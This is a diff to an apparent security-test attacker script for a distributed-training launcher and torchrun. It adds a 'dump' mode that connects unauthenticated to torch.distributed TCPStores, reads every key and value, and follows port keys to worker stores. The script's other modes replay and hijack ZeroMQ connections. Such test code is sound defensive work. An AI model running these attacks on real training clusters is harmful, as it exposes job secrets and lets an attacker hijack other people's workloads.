@@ -9,6 +9,9 @@ and sees its traffic, but holds no credential (no job secret, no CURVE client ke
     _attacker.py replay OUT TARGET_PORT    off-path: replays every recorded stream OUT/up<i>.bin (ZMTP greeting,
                                            HELLO, REGISTER, heartbeats: the bytes as captured) on a new connection
                                            every 0.2 s, until OUT/stop exists.
+    _attacker.py dump OUT STORE_PORT       a client of a torch.distributed TCPStore (the agent store of mindio-run, the
+                                           store of torchrun): every key and value it holds, and those of every
+                                           store whose port a key ``.../port`` names (mindio-run's worker stores).
     _attacker.py takeover OUT TARGET_PORT IDENTITY [SERVER_PUBLIC]
                                            a DEALER with the ZeroMQ identity a rank used to have (with CURVE: the
                                            server's public key and a keypair of its own), which also sends a
@@ -213,6 +216,23 @@ def takeover(out: str, target: int, identity: str, server_public: str = "") -> N
     _report(out, "takeover", seen)
 
 
+def dump(out: str, port: int) -> None:
+    import datetime
+
+    import torch.distributed as dist
+
+    stores, todo = {}, [port]
+    while todo:
+        p = todo.pop()
+        store = dist.TCPStore("127.0.0.1", p, is_master=False, wait_for_workers=False,
+                              timeout=datetime.timedelta(seconds=10))
+        keys = store.list_keys()
+        values = store.multi_get(keys) if keys else []
+        stores[p] = {k: v.decode(errors="replace") for k, v in zip(keys, values)}
+        todo += [int(v) for k, v in stores[p].items() if k.endswith("/port") and v.isdigit() and int(v) not in stores]
+    _report(out, "dump", {str(p): kv for p, kv in stores.items()})
+
+
 def _report(out: str, name: str, data: dict) -> None:
     with open(os.path.join(out, f"{name}.json"), "w") as f:
         json.dump(data, f)
@@ -220,4 +240,4 @@ def _report(out: str, name: str, data: dict) -> None:
 
 if __name__ == "__main__":
     cmd, out, port, *rest = sys.argv[1:]
-    {"tap": tap, "replay": replay, "takeover": takeover}[cmd](out, int(port), *rest)
+    {"tap": tap, "replay": replay, "takeover": takeover, "dump": dump}[cmd](out, int(port), *rest)
